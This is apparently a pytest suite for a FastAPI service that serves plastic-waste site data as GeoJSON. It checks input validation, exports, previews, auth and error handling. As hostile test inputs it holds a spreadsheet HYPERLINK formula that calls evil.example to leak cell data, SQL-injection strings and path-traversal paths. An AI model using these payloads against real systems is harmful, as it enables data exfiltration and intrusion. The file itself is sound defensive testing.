"""The sites API (``plastics serve``) over a real site database on both backends: GPW's GeoJSON
contract, problem+json errors, run selection, exports, previews, credentials."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import APIRouter, Depends
from fastapi.testclient import TestClient

from plastics_core.api.app import create_app
from plastics_core.api.auth import require_writer
from plastics_core.sitedb.engine import open_database
from plastics_core.sitedb.publish import RunInfo, publish_roi
from tests._sitedb import registry_inputs

OLD, LATEST, JAVA = "0123456789ab", "abcdef012345", "feedfacecafe"
HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.fixture
def published(sitedb_url: str, tmp_path: Path) -> Iterator[dict[str, Any]]:
    """bali published under two run hashes (LATEST last), java once; a store with one preview page."""
    engine = open_database(sitedb_url)
    old = registry_inputs(6, ("2021-01-01",), seed=5)
    latest = registry_inputs(30, ("2021-01-01", "2021-04-01", "2021-07-01"), seed=6)
    latest[0].loc[0, "address"] = HOSTILE_ADDRESS
    java = registry_inputs(10, ("2021-01-01",), seed=7, lon0=110.0, lat0=-7.5)
    publish_roi(engine, RunInfo(OLD, "bali"), *old)
    publish_roi(engine, RunInfo(LATEST, "bali"), *latest)
    publish_roi(engine, RunInfo(JAVA, "java"), *java)
    store = tmp_path / "store"
    page = store / "preview" / "bali" / "2021-07-01" / f"{LATEST}.html"
    page.parent.mkdir(parents=True)
    page.write_text("<!doctype html><title>bali</title>", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("not served")
    app = create_app(sitedb_url, str(store), engine=engine)
    with TestClient(app) as client:
        yield {"client": client, "old": old[0], "latest": latest[0], "java": java[0], "engine": engine}
    engine.dispose()


def _ids(doc: dict[str, Any]) -> list[str]:
    return [f["properties"]["id"] for f in doc["features"]]


def test_sites_in_a_bbox_follow_gpw_geojson(published: dict[str, Any]) -> None:
    client, latest = published["client"], published["latest"]
    bbox = (115.2, 115.5, -8.7, -8.3)  # minlon, maxlon, minlat, maxlat (GPW's order)
    r = client.get("/sites", params={"bbox": ",".join(map(str, bbox)), "limit": 1000})
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/geo+json")
    doc = r.json()
    assert doc["type"] == "FeatureCollection"
    inside = latest[latest.lon.between(bbox[0], bbox[1]) & latest.lat.between(bbox[2], bbox[3])]
    assert 0 < len(inside) < len(latest)
    assert sorted(_ids(doc)) == sorted(inside["site_id"])
    for feature in doc["features"]:
        props, geom = feature["properties"], feature["geometry"]
        assert geom["type"] == "Point" and bbox[0] <= geom["coordinates"][0] <= bbox[1]
        assert props["first_detected"] <= props["last_detected"] and props["run_hash"] == LATEST
        assert client.get(props["ref"]).json()["site"]["properties"]["id"] == props["id"]
    everything = client.get("/sites", params={"limit": 1000}).json()
    assert sorted(_ids(everything)) == sorted([*latest["site_id"], *published["java"]["site_id"]])
    pages = [_ids(client.get("/sites", params={"limit": 7, "offset": o}).json()) for o in range(0, 42, 7)]
    assert [i for p in pages for i in p] == _ids(everything)


@pytest.mark.parametrize(
    "query, words",
    [
        ({"bbox": "115,116,-9"}, "bbox must be four numbers"),
        ({"bbox": "a,b,c,d"}, "bbox must be four numbers"),
        ({"bbox": "115;116;-9;-8"}, "bbox must be four numbers"),
        ({"bbox": "116,115,-9,-8"}, "bbox is reversed"),
        ({"bbox": "115,116,-8,-9"}, "bbox is reversed"),
        ({"bbox": "115,181,-9,-8"}, "bbox is out of range"),
        ({"bbox": "115,116,-91,-8"}, "bbox is out of range"),
        ({"bbox": "nan,116,-9,-8"}, "not a finite number"),
        ({"bbox": "115,inf,-9,-8"}, "not a finite number"),
        ({"bbox": "1);DROP TABLE sites;--,2,3,4"}, "bbox must be four numbers"),
        ({"bbox": "1" * 500}, "parameter 'bbox'"),
        ({"limit": "-1"}, "parameter 'limit'"),
        ({"limit": "1000001"}, "parameter 'limit'"),
        ({"limit": "ten"}, "parameter 'limit'"),
        ({"offset": "-5"}, "parameter 'offset'"),
        ({"run": "' OR 1=1 --"}, "run must be a run hash"),
    ],
)
def test_bad_parameters_are_400_problem_json_in_one_sentence(
    published: dict[str, Any], query: dict[str, str], words: str
) -> None:
    r = published["client"].get("/sites", params=query)
    assert r.status_code == 400 and r.headers["content-type"] == "application/problem+json"
    problem = r.json()
    assert problem["status"] == 400 and problem["title"] == "Bad Request" and problem["instance"] == "/sites"
    assert words in problem["detail"] and "\n" not in problem["detail"] and problem["detail"].endswith(".")
    assert "Traceback" not in r.text and "SELECT" not in r.text


@pytest.mark.parametrize("roi", ["' OR '1'='1", "bali'; DROP TABLE sites; --", "bali\x00", "%", "_ali"])
def test_hostile_roi_filters_match_nothing(published: dict[str, Any], roi: str) -> None:
    client = published["client"]
    r = client.get("/sites", params={"roi": roi})
    assert r.status_code == 200 and r.json() == {"type": "FeatureCollection", "features": []}
    assert len(client.get("/sites", params={"roi": "bali", "limit": 1000}).json()["features"]) == len(
        published["latest"]
    )


@pytest.mark.parametrize("site_id", ["nosuchsite", "' OR '1'='1", "x" * 300, "%00", "..%2f..%2fetc"])
def test_unknown_site_is_404_problem_json(published: dict[str, Any], site_id: str) -> None:
    for path in ("", "/contours"):
        r = published["client"].get(f"/sites/{site_id}{path}")
        assert r.status_code == 404 and r.headers["content-type"] == "application/problem+json"
        assert r.json()["status"] == 404 and "\n" not in r.json()["detail"]


def test_a_site_has_its_contour_history(published: dict[str, Any]) -> None:
    client, latest = published["client"], published["latest"]
    row = latest.sort_values("n_windows").iloc[-1]
    doc = client.get(f"/sites/{row['site_id']}").json()
    assert doc["type"] == "FeatureCollection" and doc["site"]["properties"]["id"] == row["site_id"]
    dates = [f["properties"]["date"] for f in doc["features"]]
    assert dates == sorted(dates) and len(dates) == row["n_windows"]
    assert all(
        f["geometry"]["type"] == "MultiPolygon" and f["properties"]["area_km2"] > 0 for f in doc["features"]
    )
    paged = client.get(f"/sites/{row['site_id']}/contours", params={"limit": 1, "offset": 1}).json()
    assert [f["properties"]["date"] for f in paged["features"]] == dates[1:2]
    gpw_spelling = client.get(f"/sites/{row['site_id']}/countours").json()
    assert [f["properties"]["date"] for f in gpw_spelling["features"]] == dates


def test_the_latest_run_is_served_unless_another_is_asked_for(published: dict[str, Any]) -> None:
    client, old = published["client"], published["old"]
    got = client.get("/sites", params={"roi": "bali", "run": OLD, "limit": 1000}).json()
    assert sorted(_ids(got)) == sorted(old["site_id"])
    assert all(f["properties"]["ref"].endswith(f"?run={OLD}") for f in got["features"])
    assert client.get("/sites", params={"run": "0" * 12}).json()["features"] == []
    rois = {r["roi"]: r for r in client.get("/rois").json()["rois"]}
    assert rois["bali"]["run_hash"] == LATEST and rois["bali"]["runs"] == [LATEST, OLD]
    assert rois["bali"]["sites"] == len(published["latest"]) and rois["java"]["sites"] == len(
        published["java"]
    )
    assert sorted(_ids(client.get(rois["java"]["sites_url"]).json())) == sorted(published["java"]["site_id"])


def test_exports_csv_and_geojson(published: dict[str, Any]) -> None:
    client, latest = published["client"], published["latest"]
    r = client.get("/export/sites.csv", params={"roi": "bali"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["id"] for row in rows) == sorted(latest["site_id"])
    hostile = [row for row in rows if "HYPERLINK" in row["address"]]
    assert [row["address"] for row in hostile] == ["'" + HOSTILE_ADDRESS]
    assert all(not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()) for row in rows)
    gj = client.get("/export/sites.geojson", params={"roi": "java"})
    assert "attachment" in gj.headers["content-disposition"]
    assert sorted(_ids(gj.json())) == sorted(published["java"]["site_id"])


def test_openapi_is_served(published: dict[str, Any]) -> None:
    client = published["client"]
    spec = client.get("/openapi.json").json()
    assert {"/sites", "/sites/{site_id}", "/sites/{site_id}/contours", "/rois", "/export/sites.csv"} <= set(
        spec["paths"]
    )
    params = {p["name"] for p in spec["paths"]["/sites"]["get"]["parameters"]}
    assert {"bbox", "limit", "offset", "run", "roi"} <= params
    assert client.get("/docs").status_code == 200


def test_the_docs_page_works_offline(published: dict[str, Any]) -> None:
    import re

    client = published["client"]
    page = client.get("/docs")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    urls = re.findall(r"""(?:src|href)=["']([^"']+)["']""", page.text)
    assert {"js", "css"} <= {u.rsplit(".", 1)[-1] for u in urls}
    assert not re.search(r"https?://|//cdn|jsdelivr|unpkg|swagger\.io", page.text)
    for url in urls:
        assert url.startswith("/")
        asset = client.get(url)
        assert asset.status_code == 200 and len(asset.content) > 500, url
    assert "SwaggerUIBundle" in client.get(next(u for u in urls if u.endswith(".js"))).text
    assert "'/openapi.json'" in page.text and client.get("/openapi.json").status_code == 200
    assert client.get("/redoc").status_code == 404


def test_a_publication_is_seen_by_the_next_request(published: dict[str, Any]) -> None:
    client, engine = published["client"], published["engine"]
    before = client.get("/sites", params={"roi": "java", "bbox": "105,115,-12,-3", "limit": 1000}).json()
    assert sorted(_ids(before)) == sorted(published["java"]["site_id"])
    newer = registry_inputs(4, ("2021-01-01",), seed=8, lon0=110.0, lat0=-7.5)
    publish_roi(engine, RunInfo("0a0a0a0a0a0a", "java"), *newer)
    after = client.get("/sites", params={"roi": "java", "bbox": "105,115,-12,-3", "limit": 1000}).json()
    assert sorted(_ids(after)) == sorted(newer[0]["site_id"])
    assert {f["properties"]["run_hash"] for f in after["features"]} == {"0a0a0a0a0a0a"}
    publish_roi(
        engine, RunInfo(JAVA, "java"), *registry_inputs(10, ("2021-01-01",), seed=7, lon0=110.0, lat0=-7.5)
    )
    again = client.get("/sites", params={"roi": "java", "bbox": "105,115,-12,-3", "limit": 1000}).json()
    assert {f["properties"]["run_hash"] for f in again["features"]} == {JAVA}


def test_a_verdict_given_to_any_id_of_a_site_shows_in_lists(published: dict[str, Any]) -> None:
    import datetime as dt

    from sqlalchemy import insert

    from plastics_core.sitedb.verdicts import Verdict

    client, engine = published["client"], published["engine"]
    registry, per_window = registry_inputs(12, ("2021-01-01",), seed=9, lon0=116.3, lat0=-8.6)
    assert len(registry) >= 4
    first, second, third = (str(i) for i in registry["site_id"][:3])
    registry.loc[registry.index[:2], "site_ids"] = [
        json.dumps([first, "det-a"]),
        json.dumps([second, "det-b"]),
    ]
    publish_roi(engine, RunInfo("0b0b0b0b0b0b", "lombok"), registry, per_window)
    now = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    given = [
        (first, "confirm"),
        ("det-a", "reject"),
        ("det-b", "unsure"),
        (second, "confirm"),
        (third, "unsure"),
    ]
    with engine.begin() as conn:  # oldest first: the newest verdict over a site's ids counts
        for site_id, verdict in given:
            conn.execute(
                insert(Verdict.__table__).values(
                    roi="lombok", site_id=site_id, verdict=verdict, reviewer="t", note="", created_at=now
                )
            )
    expected = {str(i): None for i in registry["site_id"]} | {
        first: "reject",
        second: "confirm",
        third: "unsure",
    }
    for path in ("/sites", "/export/sites.geojson"):
        doc = client.get(path, params={"roi": "lombok", "bbox": "115,118,-10,-7", "limit": 1000}).json()
        assert {f["id"]: f["properties"]["verdict"] for f in doc["features"]} == expected, path
    listed = client.get("/sites", params={"roi": "bali"}).json()["features"]
    assert listed and all(f["properties"]["verdict"] is None for f in listed)


def test_previews_are_served_from_the_store_and_nothing_else(published: dict[str, Any]) -> None:
    client = published["client"]
    r = client.get(f"/preview/bali/2021-07-01/{LATEST}.html")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    assert r.headers["x-content-type-options"] == "nosniff"
    for path in (
        "/preview/../secret.txt",
        "/preview/..%2f..%2fsecret.txt",
        "/preview/%2e%2e/%2e%2e/secret.txt",
        "/secret.txt",
        "/preview/bali/2021-07-01/missing.html",
    ):
        r = client.get(path)
        assert r.status_code == 404 and "not served" not in r.text


@pytest.mark.parametrize("threads", [1, 2, 7])
def test_threads_bound_the_requests_a_process_works_on_at_once(
    published: dict[str, Any], sitedb_url: str, threads: int
) -> None:
    """``create_app(threads=N)`` (``plastics serve --threads N``) sizes the thread pool where the
    synchronous endpoints run, once the server has started."""
    import anyio.to_thread

    router = APIRouter()

    @router.get("/pool")
    async def pool() -> dict[str, float]:
        return {"tokens": anyio.to_thread.current_default_thread_limiter().total_tokens}

    app = create_app(sitedb_url, None, routers=[router], engine=published["engine"], threads=threads)
    with TestClient(app) as client:  # runs the startup handlers
        assert client.get("/pool").json() == {"tokens": threads}
        assert client.get("/sites", params={"bbox": "-180,180,-90,90"}).status_code == 200


def test_writes_need_credentials_from_the_environment(
    published: dict[str, Any], sitedb_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    router = APIRouter()

    @router.post("/whoami")
    def whoami(reviewer: str = Depends(require_writer)) -> dict[str, str]:
        return {"reviewer": reviewer}

    app = create_app(sitedb_url, None, routers=[router], engine=published["engine"])
    client = TestClient(app)
    for var in ("PLASTICS_API_USERS", "PLASTICS_API_TOKEN", "PLASTICS_API_TOKEN_USER"):
        monkeypatch.delenv(var, raising=False)
    refused = client.post("/whoami")
    assert refused.status_code == 403 and "PLASTICS_API_USERS" in refused.json()["detail"]
    monkeypatch.setenv("PLASTICS_API_USERS", "ana:pw-one:with-colon, budi:pw2")
    monkeypatch.setenv("PLASTICS_API_TOKEN", "tok-123")

    def basic(user: str, pw: str) -> dict[str, str]:
        return {"Authorization": "Basic " + base64.b64encode(f"{user}:{pw}".encode()).decode()}

    assert client.post("/whoami", headers=basic("ana", "pw-one:with-colon")).json() == {"reviewer": "ana"}
    assert client.post("/whoami", headers=basic("budi", "pw2")).json() == {"reviewer": "budi"}
    assert client.post("/whoami", headers={"Authorization": "Bearer tok-123"}).json() == {"reviewer": "api"}
    for headers in (
        basic("ana", "wrong"),
        basic("eve", "pw2"),
        {"Authorization": "Bearer nope"},
        {"Authorization": "Basic !!!"},
        {},
    ):
        r = client.post("/whoami", headers=headers)
        assert r.status_code == 401 and r.headers["www-authenticate"].startswith("Basic")
        assert "pw2" not in r.text and "tok-123" not in r.text
    assert client.get("/sites").status_code == 200  # reads stay open


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_a_database_outage_is_503_without_the_password(published: dict[str, Any]) -> None:
    from plastics_core.sitedb.engine import create_database_engine

    secret = "Outage-pw-DO-NOT-LEAK"
    down = create_database_engine(f"postgresql://plastics:{secret}@127.0.0.1:{_free_port()}/sites")
    client = TestClient(create_app("unused", None, engine=down), raise_server_exceptions=False)
    r = client.get("/sites")
    assert r.status_code == 503 and r.headers["content-type"] == "application/problem+json"
    assert secret not in r.text and "127.0.0.1" not in r.text


def test_a_page_is_read_again_after_the_server_drops_the_connection(
    published: dict[str, Any], sitedb_url: str
) -> None:
    if not sitedb_url.startswith("postgresql"):
        pytest.skip("a dropped connection needs the server backend")
    from sqlalchemy import text

    with TestClient(create_app(sitedb_url, None)) as client:  # its own pool: no pre-ping
        first = client.get("/sites", params={"limit": 1000})
        everything = sorted([*published["latest"]["site_id"], *published["java"]["site_id"]])
        assert first.status_code == 200 and sorted(_ids(first.json())) == everything
        rois = client.get("/rois").json()
        with published["engine"].connect() as conn:  # as a restart or failover does
            ended = conn.execute(
                text(
                    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity "
                    "WHERE datname = current_database() AND pid <> pg_backend_pid()"
                )
            ).scalar_one()
        assert ended >= 1
        again = client.get("/sites", params={"limit": 1000})  # asyncpg's pool: read again
        assert again.status_code == 200 and again.json() == first.json()
        # SQLAlchemy's pool (the other endpoints): one 503 at most, then new connections
        statuses = [client.get("/rois").status_code for _ in range(3)]
        assert statuses in ([503, 200, 200], [200, 200, 200])
        assert client.get("/rois").json() == rois


@pytest.mark.parametrize("workers", [1, 2])
def test_plastics_serve_answers_on_127_0_0_1(
    published: dict[str, Any], sitedb_url: str, tmp_path: Path, workers: int
) -> None:
    import httpx

    port = _free_port()
    env = {**os.environ, "PLASTICS_DATABASE_URL": sitedb_url, "PLASTICS_STORE": str(tmp_path / "store")}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "plastics_dagster.cli",
            "serve",
            "--port",
            str(port),
            "--workers",
            str(workers),
        ],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                r = httpx.get(f"http://127.0.0.1:{port}/sites", params={"roi": "java"}, timeout=2)
                break
            except httpx.TransportError:
                assert proc.poll() is None and time.monotonic() < deadline, "plastics serve did not start"
                time.sleep(0.3)
        assert r.status_code == 200 and sorted(_ids(r.json())) == sorted(published["java"]["site_id"])
        page = httpx.get(f"http://127.0.0.1:{port}/preview/bali/2021-07-01/{LATEST}.html", timeout=5)
        assert page.status_code == 200 and "<title>bali</title>" in page.text
    finally:
        proc.terminate()
        out, _ = proc.communicate(timeout=30)
    password = sitedb_url.split("@")[0].rsplit(":", 1)[-1] if sitedb_url.startswith("postgresql") else None
    assert "plastics serve: site database" in out and (password is None or password not in out)


def test_plastics_serve_with_an_unreachable_database_is_one_line(tmp_path: Path) -> None:
    secret = "Serve-pw-DO-NOT-LEAK"
    env = {
        **os.environ,
        "PLASTICS_DATABASE_URL": f"postgresql://u:{secret}@127.0.0.1:{_free_port()}/db",
        "PLASTICS_STORE": str(tmp_path / "store"),
    }
    proc = subprocess.run(
        [sys.executable, "-m", "plastics_dagster.cli", "serve"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2 and proc.stdout == ""
    assert len(proc.stderr.strip().splitlines()) == 1 and secret not in proc.stderr
    assert "PLASTICS_DATABASE_URL" in proc.stderr and "Traceback" not in proc.stderr
    assert json.dumps(proc.stderr)  # text, no binary noise


def test_sites_serves_the_features_its_columns_give(sitedb_url: str) -> None:
    """``/sites`` serves each site's Feature rendered at publication, closed with its verdict and
    ``ref``: the same document the GeoJSON export builds from the columns, with hostile text
    (quotes, backslashes, markup, line separators), a score that is not a number, a missing
    address, a verdict, another run, and a base URL holding a quote."""
    engine = open_database(sitedb_url)
    registry, per_window = registry_inputs(8, ("2021-01-01", "2021-04-01"), seed=11)
    registry.loc[0, "name"] = 'a "quoted" \\ name</script>\u2028\u2029\x01'
    registry.loc[1, "score_latest"] = float("nan")
    registry.loc[2, "address"] = None
    registry.loc[3, "address"] = "名前 ☃ \u202e"
    publish_roi(engine, RunInfo("0a0b0c0d0e0f", "flores"), registry, per_window)
    import datetime as dt

    from sqlalchemy import insert
    from starlette.requests import Request

    from plastics_core.api.sites import feature_page_body, page_features
    from plastics_core.sitedb import queries
    from plastics_core.sitedb.verdicts import Verdict

    first = str(registry.loc[4, "site_id"])
    with engine.begin() as conn:
        conn.execute(
            insert(Verdict.__table__).values(
                roi="flores",
                site_id=first,
                verdict="confirm",
                reviewer="t",
                note="",
                created_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
            )
        )
    cases = ({"roi": "flores", "limit": 1000}, {"run": "0a0b0c0d0e0f", "limit": 3, "offset": 2})
    with TestClient(create_app(sitedb_url, None, engine=engine)) as client:
        for params in cases:
            served = client.get("/sites", params=params)
            exported = client.get("/export/sites.geojson", params=params)
            assert served.status_code == exported.status_code == 200
            doc = served.json()
            assert doc["features"] and doc["features"] == exported.json()["features"], params
        doc = client.get("/sites", params={"roi": "flores", "limit": 1000}).json()
    # a base URL holding a quote (Starlette keeps no such Host header; a root path can hold one)
    scope = {"type": "http", "scheme": "http", "server": ("127.0.0.1", 8000), "path": "/sites"}
    scope |= {
        "root_path": '/a"b',
        "query_string": b"",
        "method": "GET",
        "headers": [(b"host", b"example.org")],
    }
    request = Request(scope)
    assert '"' in str(request.base_url)
    box = queries.BBox(-180, -90, 180, 90)
    for run in (None, "0a0b0c0d0e0f"):
        stored = queries.site_page(engine, box, roi="flores", fields=queries.FEATURE_PAGE_FIELDS)
        columns = queries.site_page(engine, box, roi="flores")
        served_doc = json.loads(feature_page_body(request, stored, run))
        assert served_doc == {"type": "FeatureCollection", "features": page_features(request, columns, run)}
    by_id = {f["id"]: f["properties"] for f in doc["features"]}
    assert by_id[str(registry.loc[0, "site_id"])]["name"] == registry.loc[0, "name"]
    assert by_id[str(registry.loc[1, "site_id"])]["score"] is None
    assert by_id[first]["verdict"] == "confirm"
    engine.dispose()
